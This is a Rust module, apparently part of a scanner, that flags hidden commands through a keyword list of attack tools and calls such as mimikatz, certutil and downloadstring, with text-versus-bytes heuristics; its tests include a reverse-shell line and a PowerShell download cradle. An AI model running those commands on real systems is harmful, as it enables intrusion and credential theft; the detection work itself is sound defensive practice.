//! What tells a text from bytes that happen to decode, and a command from a name.

/// Words that a trick hides and nobody writes by chance, in order.
const COMMANDS: &[&str] = &[
    "activexobject",
    "amsiutils",
    "assembly",
    "bitsadmin",
    "certutil",
    "cmd",
    "cmdkey",
    "createobject",
    "cscript",
    "curl",
    "downloaddata",
    "downloadfile",
    "downloadstring",
    "encodedcommand",
    "eval",
    "execute",
    "expression",
    "frombase64string",
    "getstring",
    "http",
    "https",
    "iex",
    "installutil",
    "invoke",
    "ipconfig",
    "iwr",
    "javascript",
    "launch",
    "lsass",
    "mimikatz",
    "mshta",
    "msxml2",
    "netsh",
    "nslookup",
    "passwd",
    "powershell",
    "psexec",
    "pwsh",
    "python",
    "python3",
    "reflection",
    "regsvr32",
    "rundll32",
    "schtasks",
    "scripting",
    "sekurlsa",
    "shellcode",
    "systeminfo",
    "taskkill",
    "tasklist",
    "vssadmin",
    "wbadmin",
    "webclient",
    "wevtutil",
    "wget",
    "whoami",
    "wmic",
    "wscript",
    "xmlhttp",
];

/// The verbs before the hyphen of a cmdlet's name, those that tell of an attack.
const VERBS: &[&str] = &[
    "add", "clear", "copy", "disable", "enable", "get", "import", "invoke", "new", "out",
    "register", "remove", "restart", "set", "start", "stop", "write",
];

/// Whether this is the name of a program, a call or a cmdlet that commands are made of.
pub(super) fn is_command(word: &str) -> bool {
    let name = word.to_ascii_lowercase();
    let is_cmdlet = || {
        let (verb, noun) = name.split_once('-')?;
        let is_noun = noun.len() > 2 && noun.bytes().all(|byte| byte.is_ascii_lowercase());
        Some(is_noun && VERBS.contains(&verb))
    };
    COMMANDS.contains(&name.as_str()) || is_cmdlet().unwrap_or(false)
}

/// The words of a text that are commands.
pub(super) fn commands_of(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !c.is_ascii_alphanumeric() && c != '-')
        .filter(|word| is_command(word))
}

/// Whether a word of this text is a command.
pub(super) fn holds_command(text: &str) -> bool {
    commands_of(text).next().is_some()
}

/// Whether this is text at all: something to read, and no control character but white space.
pub(super) fn is_text(text: &str) -> bool {
    text.chars().any(char::is_alphanumeric)
        && text
            .chars()
            .all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
}

/// Whether this is surely text that somebody wrote: it was found without a word that says so.
pub(super) fn is_surely_text(text: &str) -> bool {
    let mut total = 0;
    let mut plain = 0;
    let mut letters = 0;
    for c in text.chars() {
        total += 1;
        plain += usize::from(c.is_ascii());
        letters += usize::from(c.is_ascii_alphabetic() || c == ' ');
    }
    is_text(text) && total >= 6 && 10 * plain >= 9 * total && 3 * letters >= total && has_word(text)
}

/// A run of four letters or more with a vowel among them, or short words with a space between.
fn has_word(text: &str) -> bool {
    let is_vowel = |byte: u8| b"aeiouyAEIOUY".contains(&byte);
    let runs = text.split(|c: char| !c.is_ascii_alphabetic());
    let mut short = 0;
    runs.filter(|run| run.len() >= 2).any(|run| {
        short += 1;
        (run.len() >= 4 && run.bytes().any(is_vowel)) || (short >= 3 && text.contains(' '))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_from_names() {
        assert!(COMMANDS.is_sorted());
        for word in ["IEX", "PowerShell", "Invoke-Expression", "wget"] {
            assert!(is_command(word), "{word}");
        }
        for word in ["", "power", "e-mail", "set-", "Get-A1", "don't"] {
            assert!(!is_command(word), "{word}");
        }
    }

    #[test]
    fn text_is_told_from_bytes() {
        for text in [
            "hello world",
            "nc -e /bin/sh 10.0.0.1 4444",
            "IEX(New-Object Net.WebClient)",
        ] {
            assert!(is_surely_text(text), "{text}");
        }
        for text in [
            "",
            "1234567890",
            "a\u{1}bcdefgh",
            "äöüäöüword",
            "{}[]();:word,;.:-",
            "xk qz 12",
        ] {
            assert!(!is_surely_text(text), "{text}");
        }
    }
}
